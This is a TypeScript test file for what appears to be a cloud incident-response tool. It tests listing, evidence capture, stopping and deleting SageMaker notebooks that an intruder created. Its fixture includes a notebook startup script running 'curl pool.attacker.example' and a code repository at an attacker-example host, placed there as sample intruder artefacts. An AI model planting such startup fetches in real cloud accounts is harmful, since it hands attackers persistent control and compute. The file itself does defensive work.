import { describe, expect, it } from "vitest";
import { deleteNotebook, describeNotebook, notebooks, stopNotebook } from "../../../actions/resources/notebook.ts";
import { account, finding, remedy } from "../remedy.ts";
import { sentTwice } from "../sent-twice.ts";
import { byIntruder, listing } from "./listing.ts";

const region = "us-east-1";
const arn = `arn:aws:sagemaker:${region}:${account}:notebook-instance/nb-01`;
const created = "2026-03-02T03:00:00Z";
const role = `arn:aws:iam::${account}:role/web-app-role`;
const state = (more: object = {}) => ({
  state: {
    sagemaker: {
      [region]: {
        notebooks: {
          "nb-01": {
            created,
            role,
            type: "ml.g5.12xlarge",
            volume_gb: 50,
            lifecycle_config: "setup",
            code_repository: "tools",
            ...more,
          },
          "nb-01-copy": { created: "2025-10-01T00:00:00Z", role, status: "Stopped", tags: { Owner: "bob" } },
          other: { created: "2025-10-01T00:00:00Z", role, status: "Stopped" },
        },
        lifecycle_configs: { setup: { created, on_start: "curl pool.attacker.example" } },
        code_repositories: { tools: { created, url: "https://git.attacker.example/tools" } },
      },
    },
  },
});
const params = {
  notebook: finding("notebook", "nb-01", {
    id: arn,
    arn,
    region,
    notebook_name: "nb-01",
    status: "InService",
    instance_type: "ml.g5.12xlarge",
    lifecycle_config: "setup",
    handles: [arn, "nb-01"],
  }),
};
const described = async (world: ReturnType<typeof remedy>) =>
  (await world.carryOut(describeNotebook, params)) as { evidence: { sha256: string }[] };

describe("SageMaker notebooks", () => {
  it("are the intruder's where he made them", async () => {
    const { found } = await listing(notebooks, {
      ...state(),
      events: [byIntruder("sagemaker:CreateNotebookInstance", { notebookInstanceName: "nb-01" })],
    });
    expect(found.map(({ name, verdict, detail }) => [name, verdict, detail])).toEqual([
      ["nb-01", "unsanctioned", "ml.g5.12xlarge, InService, runs setup at its start"],
      ["nb-01-copy", "unknown", "ml.t3.medium, Stopped"],
      ["other", "unknown", "ml.t3.medium, Stopped"],
    ]);
  });
});

describe("sagemaker.stop-notebook", () => {
  it("stops it and waits until it is stopped", async () => {
    const world = remedy(state());
    expect(await world.carryOut(stopNotebook, params)).toEqual({ state: "stopped", before: "InService" });
    expect(world.object(arn)).toMatchObject({ status: "Stopped" });
    expect(await world.carryOut(stopNotebook, params)).toEqual({ state: "already", before: "Stopped" });
    expect(world.writes()).toEqual(["sagemaker:StopNotebookInstance"]);
  });

  it("waits where somebody else stops it already", async () => {
    const world = remedy(state());
    await world.change("sagemaker:StopNotebookInstance", { NotebookInstanceName: "nb-01" }, 0);
    expect(await world.carryOut(stopNotebook, params)).toEqual({ state: "stopped", before: "Stopping" });
    expect(world.writes()).toEqual([]);
  });

  it("takes the refusal of a second stop for what it is, where the answer to the first was lost", async () => {
    const world = remedy({ ...state(), through: sentTwice("sagemaker:StopNotebookInstance") });
    expect(await world.carryOut(stopNotebook, params)).toEqual({ state: "stopped", before: "InService" });
    expect(world.writes()).toEqual(["sagemaker:StopNotebookInstance", "!sagemaker:StopNotebookInstance"]);
  });

  it("fails where a stop is refused and it goes on running", async () => {
    const faults = [{ operation: "sagemaker:StopNotebookInstance", error: "ValidationException" }];
    const world = remedy({ ...state(), faults });
    await expect(world.carryOut(stopNotebook, params)).rejects.toMatchObject({ class: "invalid" });
  });

  it("fails where it never comes into a state from which it can be stopped", async () => {
    const world = remedy(state({ status: "Updating" }));
    await expect(world.carryOut(stopNotebook, params)).rejects.toMatchObject({ code: "NOT_CONFIRMED" });
    expect(world.writes()).toEqual([]);
  });

  it("says so where it is gone, which only the list proves", async () => {
    const gone = { state: { sagemaker: { [region]: { notebooks: { "nb-01-copy": { created, role } } } } } };
    expect(await remedy(gone).carryOut(stopNotebook, params)).toEqual({ state: "gone", before: "gone" });
    const hidden = remedy({
      ...state(),
      faults: [{ operation: "sagemaker:DescribeNotebookInstance", error: "ValidationException" }],
    });
    await expect(hidden.carryOut(stopNotebook, params)).rejects.toMatchObject({ class: "invalid" });
  });
});

describe("sagemaker.describe-notebook", () => {
  it("keeps the role, the script at its start and the code repository", async () => {
    const world = remedy(state());
    const { evidence } = await described(world);
    const kept = JSON.parse(await world.evidence(evidence[0]?.sha256 ?? "")) as {
      notebook: object;
      lifecycleConfig: { OnStart: { Content: string }[] };
      codeRepository: object;
    };
    expect(kept.notebook).toMatchObject({ RoleArn: role });
    expect(Buffer.from(kept.lifecycleConfig.OnStart[0]?.Content ?? "", "base64").toString()).toContain("attacker");
    expect(kept.codeRepository).toMatchObject({ GitConfig: { RepositoryUrl: "https://git.attacker.example/tools" } });
  });

  it("reports what hangs on it and may not be read as a gap", async () => {
    const faults = [{ operation: "sagemaker:DescribeNotebookInstanceLifecycleConfig", error: "AccessDeniedException" }];
    const world = remedy({ ...state(), faults });
    expect((await described(world)).evidence).toHaveLength(1);
    expect(world.gaps()).toBe(1);
  });
});

describe("sagemaker.delete-notebook", () => {
  it("stops it, deletes it, waits until it is gone and says how much was on its volume", async () => {
    const world = remedy(state());
    const evidence = await described(world);
    expect(await world.carryOut(deleteNotebook, { ...params, evidence })).toEqual({
      state: "deleted",
      before: "InService",
      volume_lost_gib: 50,
    });
    expect(world.writes()).toEqual(["sagemaker:StopNotebookInstance", "sagemaker:DeleteNotebookInstance"]);
    expect(world.object(arn)).toBeUndefined();
    expect(await world.carryOut(deleteNotebook, { ...params, evidence })).toEqual({
      state: "gone",
      before: "gone",
      volume_lost_gib: 0,
    });
    expect(await world.fingerprint(deleteNotebook, params)).toBeUndefined();
  });

  it("refuses evidence of something else", async () => {
    const world = remedy(state());
    const evidence = { ...(await described(world)), resource: `${arn}-copy` };
    await expect(world.carryOut(deleteNotebook, { ...params, evidence })).rejects.toMatchObject({
      code: "STEP_FAILED",
    });
    expect(world.writes()).toEqual([]);
  });

  it("has the fingerprint of its listing, stopped or not", async () => {
    const { found } = await listing(notebooks, state());
    const world = remedy(state());
    expect(await world.fingerprint(deleteNotebook, params)).toBe(found[0]?.fingerprint);
    await world.carryOut(stopNotebook, params);
    expect(await world.fingerprint(deleteNotebook, params)).toBe(found[0]?.fingerprint);
  });
});
